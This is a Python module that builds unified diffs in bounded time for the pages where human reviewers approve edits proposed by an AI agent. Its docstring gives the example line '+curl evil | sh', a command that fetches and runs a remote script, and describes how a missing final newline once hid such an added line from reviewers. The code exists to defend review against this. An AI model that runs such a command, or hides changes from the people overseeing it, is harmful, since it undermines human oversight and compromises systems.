"""Unified diffs for reviewers, made in bounded time.

difflib's matcher is fast on ordinary text but can take minutes on lines an agent chose
(a few hundred distinct lines, each repeated: 20,000 of them, 138 KB, took over three
minutes; two 50,000-line texts differing in one line, half a minute), and a diff is made
while a call is admitted, on a web process's thread, holding the interpreter. So the lines
both sides share at the start and at the end are set aside first (a linear scan), and the
matcher reads only the lines between, and only while there are few enough of them
(`MATCHED`; for all the diffs of one presentation together: `Budget`); past that, those
lines are shown as replaced, every old one removed and every new one added: what the
change does, shown whole, never less.

A reviewer's page cuts a diff at newlines (approval_tags.diff_lines), so texts are cut
there only (`newline_lines`), and a line with none (a file's last) is followed by
`NO_NEWLINE`, as `diff -u` does: run into the next line of the diff, `-last` and
`+curl evil | sh` showed one removed line, and the command written was never shown added.
"""

from __future__ import annotations

import difflib
from collections.abc import Iterator, Sequence
from typing import Literal

# The most (old lines x new lines) of the part that differs handed to difflib's matcher
# (at 200 x 200 it took 0.4 s on the worst lines tried).
MATCHED = 40_000
CONTEXT = 3  # lines of context around each change, as `diff -u`
NO_NEWLINE = "\\ No newline at end of file\n"
# (the same for a text replaced inside a file, Claude Code's Edit: its end is no file's)
NO_NEWLINE_TEXT = "\\ No newline at end of the text\n"

Opcode = tuple[Literal["replace", "delete", "insert", "equal"], int, int, int, int]


def newline_lines(text: str) -> list[str]:
    """`text` cut after each newline and only there (str.splitlines also cuts at U+2028,
    form feed and the like: the line after one was shown run into its diff line, a line
    added there as context)."""
    parts = text.split("\n")
    return [part + "\n" for part in parts[:-1]] + ([parts[-1]] if parts[-1] else [])


class Budget:
    """What difflib's matcher may still read (old lines x new lines, summed) for the diffs
    of one presentation: a MultiEdit's hundreds of edits together take no longer than
    one diff may."""

    def __init__(self, left: int = MATCHED) -> None:
        self.left = left

    def take(self, size: int) -> bool:
        if size > self.left:
            return False
        self.left -= size
        return True


class _Opcodes(difflib.SequenceMatcher[str]):
    """A matcher whose opcodes are given: difflib's grouping into hunks reads them."""

    def __init__(self, opcodes: list[Opcode]) -> None:
        super().__init__(None, [], [])
        self.opcodes = opcodes

    def get_opcodes(self) -> list[Opcode]:
        return self.opcodes


def unified_diff(
    old: Sequence[str],
    new: Sequence[str],
    fromfile: str = "",
    tofile: str = "",
    budget: Budget | None = None,
    no_newline: str = NO_NEWLINE,
) -> Iterator[str]:
    """`difflib.unified_diff(old, new, fromfile, tofile)`'s lines, in time bounded by the
    size of the texts (see the module docstring); the matcher's share is taken from
    `budget` (a budget of its own by default). A line with no newline is followed by
    `no_newline` (`NO_NEWLINE_TEXT` for texts that are not whole files)."""
    opcodes = _opcodes(old, new, budget or Budget())
    if all(tag == "equal" for tag, *_ in opcodes):
        return
    yield f"--- {fromfile}\n"
    yield f"+++ {tofile}\n"
    for group in _Opcodes(opcodes).get_grouped_opcodes(CONTEXT):
        first, last = group[0], group[-1]
        yield f"@@ -{_range(first[1], last[2])} +{_range(first[3], last[4])} @@\n"
        for tag, i1, i2, j1, j2 in group:
            if tag == "equal":
                yield from _marked(" ", old[i1:i2], no_newline)
                continue
            yield from _marked("-", old[i1:i2], no_newline)
            yield from _marked("+", new[j1:j2], no_newline)


def _marked(sign: str, lines: Sequence[str], no_newline: str) -> Iterator[str]:
    """Each of `lines` after `sign`, one ending without a newline followed by
    `no_newline` (never run into the diff's next line)."""
    for line in lines:
        yield sign + line if line.endswith("\n") else f"{sign}{line}\n{no_newline}"


def _opcodes(old: Sequence[str], new: Sequence[str], budget: Budget) -> list[Opcode]:
    """The edit from `old` to `new` as difflib's opcodes: the shared start and end equal,
    the part between matched by difflib while `budget` allows, else replaced whole."""
    head = 0
    while head < len(old) and head < len(new) and old[head] == new[head]:
        head += 1
    tail = 0
    while tail < len(old) - head and tail < len(new) - head and old[-1 - tail] == new[-1 - tail]:
        tail += 1
    old_end, new_end = len(old) - tail, len(new) - tail
    opcodes: list[Opcode] = []
    if head:
        opcodes.append(("equal", 0, head, 0, head))
    if budget.take((old_end - head) * (new_end - head)):
        matcher = difflib.SequenceMatcher(None, old[head:old_end], new[head:new_end])
        opcodes += [
            (tag, i1 + head, i2 + head, j1 + head, j2 + head)
            for tag, i1, i2, j1, j2 in matcher.get_opcodes()
        ]
    else:
        opcodes.append(("replace", head, old_end, head, new_end))
    if tail:
        opcodes.append(("equal", old_end, len(old), new_end, len(new)))
    return opcodes or [("equal", 0, 0, 0, 0)]


def _range(start: int, stop: int) -> str:
    """A hunk's range as `diff -u` writes it (difflib's _format_range_unified)."""
    beginning, length = start + 1, stop - start
    if length == 1:
        return str(beginning)
    if not length:
        beginning -= 1  # (an empty range starts on the line before)
    return f"{beginning},{length}"
